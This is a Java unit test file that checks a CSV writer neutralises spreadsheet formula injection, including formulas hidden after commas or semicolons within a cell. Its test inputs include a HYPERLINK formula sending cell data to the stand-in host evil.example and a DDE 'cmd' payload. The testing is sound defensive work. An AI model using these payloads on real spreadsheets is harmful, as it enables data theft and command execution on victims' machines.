package nl.jobcoachmonitor.shared;

import static org.assertj.core.api.Assertions.assertThat;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.lists;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * A spreadsheet may split a cell on a comma or a semicolon when someone re-imports the file (Dutch Excel reads ";"
 * as the separator). So every part of a cell between such separators that starts, after optional whitespace, like a
 * formula must be neutralised on its own, not only the start of the cell. Numbers the application writes stay
 * numbers, and {@link Csv#original} still gives back exactly what was written.
 */
class CsvSplitCellTests {

    /** The parts a spreadsheet could make of a parsed cell, split on comma and semicolon. */
    static List<String> parts(String cell) {
        return List.of(cell.split("[,;]", -1));
    }

    /**
     * Whether a part, once a spreadsheet trims the whitespace before it (no-break spaces included), could be read as
     * a formula.
     */
    static boolean dangerous(String part) {
        if (Csv.startsLikeAFormula(part) && !Csv.isNumber(part)) {
            return true;
        }
        String trimmed = part.replaceFirst("^[\\s\\p{Z}]+", "");
        return Csv.startsLikeAFormula(trimmed) && !Csv.isNumber(trimmed);
    }

    static String written(String text) {
        var rows = CsvReader.read(Csv.line(List.of(text)));
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0)).hasSize(1);
        return rows.get(0).get(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a;=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "x, +cmd|' /C calc'!A0",
            "ok;@SUM(A1:A9)", "1,-2+3", "naam; -cmd", "a,\t=1+1", "a;;=1", "a ; \u00a0=1"})
    void aFormulaAfterACommaOrSemicolonIsNeutralised(String text) {
        String cell = written(text);
        assertThat(parts(cell)).as(cell).noneMatch(CsvSplitCellTests::dangerous);
        assertThat(Csv.original(cell)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1.5", "-2", "0.25", "-3e-4", "12", "-0.125"})
    void numbersTheApplicationWritesStayNumbers(String number) {
        assertThat(Csv.cell(number)).isEqualTo(number);
        assertThat(written(number)).isEqualTo(number);
    }

    @Test
    void plainTextWithCommasAndSemicolonsIsLeftAsItIs() {
        assertThat(Csv.cell("rood; groen, blauw")).isEqualTo("\"rood; groen, blauw\"");
        assertThat(Csv.cell("it's; 'quoted'")).isEqualTo("it's; 'quoted'");
        assertThat(Csv.cell("1;-2")).as("a part that is a number is no formula").isEqualTo("1;-2");
    }

    @Test
    void aFormulaAtTheStartIsStillNeutralisedAsBefore() {
        assertThat(Csv.cell("=1+2")).isEqualTo("'=1+2");
        assertThat(Csv.cell("'=1+2")).isEqualTo("''=1+2");
        assertThat(Csv.original(written("'=1+2"))).isEqualTo("'=1+2");
    }

    @Test
    void noPartOfAnyCellStartsLikeAFormulaAndEveryRowRoundTrips() {
        Gen<String> piece = Generate.pick(List.of("=", "+", "-", "@", "\t", "\r", "\n", "\"", ",", ";", "'", " ",
                "a", "1", ".", "-1.5", "=HYPERLINK(\"x\")", "é", "\u00a0"));
        Gen<String> cell = lists().of(piece).ofSizeBetween(0, 8).map(p -> String.join("", p));
        qt().withExamples(2000).forAll(lists().of(cell).ofSizeBetween(1, 6)).checkAssert(cells -> {
            var parsed = CsvReader.read(Csv.line(cells));
            assertThat(parsed).hasSize(1);
            List<String> back = new ArrayList<>();
            for (String written : parsed.get(0)) {
                assertThat(parts(written)).as(written).noneMatch(CsvSplitCellTests::dangerous);
                back.add(Csv.original(written));
            }
            assertThat(back).isEqualTo(cells);
        });
    }

    @Test
    void anyDecimalNumberStaysExactlyThatNumber() {
        qt().withExamples(500).forAll(org.quicktheories.generators.SourceDSL.doubles().any())
                .assuming(Double::isFinite).checkAssert(value -> {
                    String text = BigDecimal.valueOf(value).stripTrailingZeros().toPlainString();
                    assertThat(written(text)).isEqualTo(text);
                });
    }
}
